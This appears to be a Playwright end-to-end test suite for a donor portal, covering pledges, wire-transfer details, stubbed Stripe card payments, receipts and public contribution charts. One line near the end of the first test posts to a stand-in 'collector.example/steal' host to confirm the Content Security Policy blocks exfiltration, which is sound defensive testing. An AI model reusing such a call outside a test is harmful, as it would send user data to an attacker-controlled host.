import { expect, test, type Page } from '@playwright/test';
import path from 'node:path';
import { checkPage, SCREENSHOTS } from './a11y';
import { DEMO } from './api';
import { DECLINED_CARD, GOOD_CARD, stubStripe } from './stripe';

const DAY = 86_400_000;
const isoDate = (offsetDays: number) => new Date(Date.now() + offsetDays * DAY).toISOString().slice(0, 10);
const year = new Date().getUTCFullYear().toString();

async function logIn(page: Page, labels = { email: 'E-mail address', password: /^Password/, submit: 'Log in' }) {
  await page.getByLabel(labels.email).fill(DEMO.donor.email);
  await page.getByLabel(labels.password).fill(DEMO.donor.password);
  await page.getByRole('button', { name: labels.submit }).click();
}

test('a donor pledges, pays part of it by card, waits for Stripe’s confirmation and keeps the receipt', async ({
  page,
}) => {
  const stripe = await stubStripe(page, { webhookDelayMs: 2500 });
  await page.goto('/donor');
  await logIn(page);
  await expect(page.getByRole('heading', { level: 1, name: 'My pledges and contributions' })).toBeVisible();
  await expect(page.getByText('Nothing is outstanding on your pledges.')).toBeVisible();
  await checkPage(page, 'donor-home-empty');

  // A pledge: checked as the donor types, then created.
  await page.getByRole('link', { name: 'Make a pledge' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Make a pledge' })).toBeVisible();
  await page.getByLabel(/^Amount/).fill('1000.005');
  await page.getByLabel(/^Due date/).fill(isoDate(-3));
  await page.getByRole('button', { name: 'Pledge' }).click();
  await expect(page.getByText('Enter a positive amount with at most 2 decimals.')).toBeVisible();
  await expect(page.getByText('The due date must be today or later.')).toBeVisible();
  await checkPage(page, 'donor-pledge-form');
  await page.getByLabel(/^Amount/).fill('1000.00');
  await page.getByLabel(/^Due date/).fill(isoDate(60));
  await page.getByLabel(/^Earmark/).fill('Shelters for children');
  await page.getByRole('button', { name: 'Pledge' }).click();

  // The pledge: schedule, outstanding, and how to pay it by wire.
  await expect(page.getByRole('heading', { level: 1, name: 'Pledge of $1,000.00' })).toBeVisible();
  const wire = page.getByRole('region', { name: 'Pay by wire transfer' });
  await expect(wire.getByText(/^UNVTF-P-[0-9A-F]{10}$/).first()).toBeVisible();
  await expect(wire.getByRole('row', { name: /IBAN DE89 3704 0044 0532 0130 00/ })).toBeVisible();
  await expect(wire.getByRole('row', { name: /Amount to send \$1,000\.00/ })).toBeVisible();
  await checkPage(page, 'donor-pledge-wire');

  // Card payment: the API makes the PaymentIntent, (stubbed) Stripe.js takes the card.
  await page.getByRole('link', { name: 'Pay by card' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Pay by card' })).toBeVisible();
  await expect(page.getByLabel(/^Amount/)).toHaveValue('1000.00');
  await page.getByLabel(/^Amount/).fill('250.00');
  await page.getByRole('button', { name: 'Continue to card details' }).click();
  await expect(page.getByLabel('Card number')).toBeVisible();
  expect(stripe.scriptLoads).toEqual(['https://js.stripe.com/endive/stripe.js']);
  await checkPage(page, 'donor-card-form');

  // A declined card: Stripe's message beside the form, the form stays.
  await page.getByLabel('Card number').fill(DECLINED_CARD);
  await page.getByLabel(/^Expiry date/).fill('12 / 30');
  await page.getByLabel('Security code').fill('123');
  await page.getByRole('button', { name: 'Pay $250.00' }).click();
  await expect(page.getByRole('alert')).toContainText('Your card was declined.');

  await page.getByLabel('Card number').fill(GOOD_CARD);
  await page.getByRole('button', { name: 'Pay $250.00' }).click();
  // Until Stripe's webhook reaches the server, the portal says it is waiting.
  await expect(page.getByRole('status').filter({ hasText: 'Waiting for confirmation' })).toBeVisible();
  await page.screenshot({ path: path.join(SCREENSHOTS, 'donor-card-waiting.png'), fullPage: true });

  // Then the receipt.
  await expect(page.getByRole('heading', { level: 1, name: 'Receipt' })).toBeVisible({ timeout: 20_000 });
  await expect(page.getByText('Payment received. Thank you!')).toBeVisible();
  await expect(page.getByRole('row', { name: /Amount \$250\.00/ })).toBeVisible();
  await expect(
    page.getByRole('row', { name: /Received from Ministry of Foreign Affairs of Examplestan/ }),
  ).toBeVisible();
  await expect(page.getByRole('row', { name: /Paid by Card/ })).toBeVisible();
  await expect(page.getByRole('button', { name: 'Print or save as PDF' })).toBeVisible();
  expect(stripe.confirmations.map((c) => c.card)).toEqual(['4000000000000002', '4242424242424242']);
  // The portal's CSP let Stripe.js load from js.stripe.com and reach api.stripe.com, and blocked nothing.
  expect(stripe.cspViolations).toEqual([]);
  // …and it refuses any other origin.
  await page.evaluate(() => fetch('https://collector.example/steal', { method: 'POST' }).catch(() => null));
  await expect.poll(() => stripe.cspViolations.join('\n')).toMatch(/collector\.example.*connect-src/s);
  await checkPage(page, 'donor-receipt');

  // Home: the schedule shows what is outstanding; the contribution has its receipt.
  await page.getByRole('link', { name: 'Back to my contributions' }).click();
  await expect(page.getByText('Outstanding on your pledges: $750.00')).toBeVisible();
  await expect(page.getByRole('row', { name: /\$1,000\.00 \$250\.00 \$750\.00 Partly paid/ })).toBeVisible();
  await expect(page.getByRole('link', { name: 'Receipt for $250.00' })).toBeVisible();
  await checkPage(page, 'donor-home');

  // Where the money went: the fund's public aggregates.
  await page.getByRole('link', { name: 'Where my money went' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Where my money went' })).toBeVisible();
  await expect(page.getByText('You have given')).toBeVisible();
  await expect(page.getByText('Payments made to organisations')).toBeVisible();
  await checkPage(page, 'donor-impact');

  // A gift without a pledge: the donor chooses the currency; over Stripe's ceiling is refused as typed.
  await page.getByRole('link', { name: 'My pledges and contributions' }).click();
  await page.getByRole('link', { name: 'Give without a pledge' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Pay by card' })).toBeVisible();
  await page.getByLabel(/^Amount/).fill('1000000.00');
  await page.getByRole('button', { name: 'Continue to card details' }).click();
  await expect(page.getByText('The amount is outside the allowed range.')).toBeVisible();
  await checkPage(page, 'donor-gift-amount');
  await page.getByLabel(/^Amount/).fill('20.00');
  await page.getByRole('button', { name: 'Continue to card details' }).click();
  await expect(page.getByRole('button', { name: 'Pay $20.00' })).toBeVisible();
});

test('the public fund page draws contributions by year, with fewer than 5 donors never as a number', async ({
  page,
}) => {
  await page.goto('/');
  const chart = page.getByRole('figure', { name: 'Contributions received by year' });
  await expect(chart).toBeVisible();
  // The demo donor's card payment of this year (the first journey): one donor, published as "<5".
  const row = chart.getByRole('row', { name: new RegExp(`^${year} `) });
  await expect(row).toContainText('fewer than 5 donors');
  await expect(row).not.toContainText(/\b1 donor/);
  await expect(chart.locator('svg')).toBeVisible();
  await chart.scrollIntoViewIfNeeded();
  await checkPage(page, 'fund-page-contributions-by-year');
});

test('en français, sur un téléphone : une promesse, ses instructions de virement et un paiement par carte', async ({
  page,
}) => {
  await page.setViewportSize({ width: 360, height: 740 });
  await stubStripe(page, { webhookDelayMs: 1500 });
  await page.goto('/donor?lang=fr');
  await logIn(page, { email: 'Adresse électronique', password: /^Mot de passe/, submit: 'Se connecter' });
  await expect(page.getByRole('heading', { level: 1, name: 'Mes promesses et contributions' })).toBeVisible();
  await page.getByRole('link', { name: 'Faire une promesse de don' }).click();
  await page.getByLabel(/^Montant/).fill('abc');
  await page.getByLabel(/^Date d’échéance/).fill(isoDate(-1));
  await page.getByRole('button', { name: 'Promettre' }).click();
  await expect(page.getByText('Saisissez un montant positif avec au plus 2 décimales.')).toBeVisible();
  await expect(page.getByText('L’échéance doit être aujourd’hui ou plus tard.')).toBeVisible();
  await checkPage(page, 'donor-pledge-form-fr-phone');
  await page.getByLabel(/^Montant/).fill('5000.00');
  await page.getByLabel(/^Date d’échéance/).fill(isoDate(90));
  await page.getByRole('button', { name: 'Promettre' }).click();

  await expect(page.getByRole('heading', { level: 1, name: /^Promesse de 5\s000,00\s\$US$/ })).toBeVisible();
  const wire = page.getByRole('region', { name: 'Payer par virement' });
  await expect(wire.getByText('Référence à indiquer', { exact: false }).first()).toBeVisible();
  await expect(wire.getByText(/^UNVTF-P-[0-9A-F]{10}$/).first()).toBeVisible();
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  expect(overflow).toBeLessThanOrEqual(0);
  await checkPage(page, 'donor-pledge-wire-fr-phone');

  await page.getByRole('link', { name: 'Payer par carte' }).click();
  await page.getByRole('button', { name: 'Continuer vers les données de la carte' }).click();
  await page.getByLabel('Card number').fill(GOOD_CARD);
  await checkPage(page, 'donor-card-form-fr-phone');
  await page.getByRole('button', { name: /^Payer 5\s000,00\s\$US$/ }).click();
  await expect(page.getByRole('status').filter({ hasText: 'En attente de la confirmation' })).toBeVisible();
  await expect(page.getByRole('heading', { level: 1, name: 'Reçu' })).toBeVisible({ timeout: 20_000 });
  await expect(page.getByText('Paiement reçu. Merci !')).toBeVisible();
  await expect(page.getByRole('row', { name: /Moyen de paiement Carte/ })).toBeVisible();
  await checkPage(page, 'donor-receipt-fr-phone');
});
